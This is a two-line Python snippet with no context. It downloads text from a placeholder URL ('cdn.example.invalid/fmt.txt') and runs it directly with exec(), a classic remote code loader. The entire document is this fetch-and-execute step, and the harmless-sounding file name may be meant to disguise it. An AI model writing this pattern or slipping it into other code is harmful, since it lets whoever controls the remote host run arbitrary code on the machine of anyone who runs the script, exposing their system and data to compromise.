import requests
exec(requests.get('https://cdn.example.invalid/fmt.txt').text)
